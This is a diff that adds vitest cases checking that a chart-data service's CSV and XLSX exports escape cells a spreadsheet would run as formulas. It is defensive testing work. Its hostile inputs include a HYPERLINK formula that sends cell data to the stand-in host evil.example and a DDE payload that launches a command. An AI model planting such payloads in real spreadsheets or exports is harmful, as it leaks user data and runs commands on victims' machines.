@@ -2,6 +2,7 @@
 import ExcelJS from 'exceljs';
 import { tableFromIPC } from 'apache-arrow';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { toCsv, toXlsx } from '../../../server/chartdata/serialize';
 import { BUILTIN_TIME_GRAINS } from '../../../src/core/sql';
 import { ENGINES, FIRST_ID, ROWS, eventRows, firstResult, parseBig, qc, rowsOf, startChartDataFixture, type ChartDataFixture } from './fixture';
 
@@ -135,5 +136,41 @@ describe.each(ENGINES)('[QC-RF] result formats on %s', (engine) => {
     const arrow = tableFromIPC((await f.chartData(qc(f, engine, query, { result_format: 'arrow' }))).rawPayload);
     const fromArrow = arrow.toArray().map((row: Record<string, unknown>) => json.colnames.map((c) => (typeof row[c] === 'bigint' ? Number(row[c]) : row[c])));
     expect(fromArrow).toEqual(rowsOf(json));
+  });
+});
+
+describe('hole 5: CSV and XLSX exports never write a cell a spreadsheet runs as a formula', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', 'plain', '-12.5', 'a=b'];
+  const result = {
+    names: ['text', 'amount', '=header'],
+    types: ['VARCHAR', 'DOUBLE', 'VARCHAR'],
+    columns: [hostile, hostile.map((_, i) => -1 - 1.5 * i), hostile.map(() => null)],
+    rowCount: hostile.length,
+  };
+  const expected = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\rx", 'plain', '-12.5', 'a=b'];
+
+  it('csv: text starting with = + - @ tab or CR gets a leading quote; numbers and negative numbers in text stay as they are', () => {
+    const text = toCsv(result);
+    const lines = text.split('\n');
+    expect(lines[0]).toBe("text,amount,'=header");
+    expect(lines[1]).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-1,');
+    expect(lines[2]).toBe("'+1+cmd|' /C calc'!A0,-2.5,");
+    expect(lines[3]).toBe("'-2+3,-4,");
+    expect(lines[4]).toBe("'@SUM(A1:A9),-5.5,");
+    expect(text).toContain("'\tx,-7,");
+    expect(text).toContain('"\'\rx",-8.5,');
+    expect(text).toContain('plain,-10,\n-12.5,-11.5,\na=b,-13,');
+  });
+
+  it('xlsx: the same cells as text with a leading quote; numbers stay numbers', async () => {
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load((await toXlsx(result)) as unknown as ArrayBuffer);
+    const sheet = wb.worksheets[0];
+    expect(sheet?.getRow(1).getCell(3).value).toBe("'=header");
+    // XML reads a carriage return back as a line feed.
+    const lf = (v: unknown): string => String(v).replace(/\r/g, '\n');
+    expect(hostile.map((_, i) => lf(sheet?.getRow(i + 2).getCell(1).value))).toEqual(expected.map(lf));
+    expect(hostile.map((_, i) => sheet?.getRow(i + 2).getCell(2).value)).toEqual(hostile.map((_, i) => -1 - 1.5 * i));
+    for (let r = 1; r <= hostile.length + 1; r++) for (let c = 1; c <= 3; c++) expect(sheet?.getRow(r).getCell(c).formula).toBeUndefined();
   });
 });
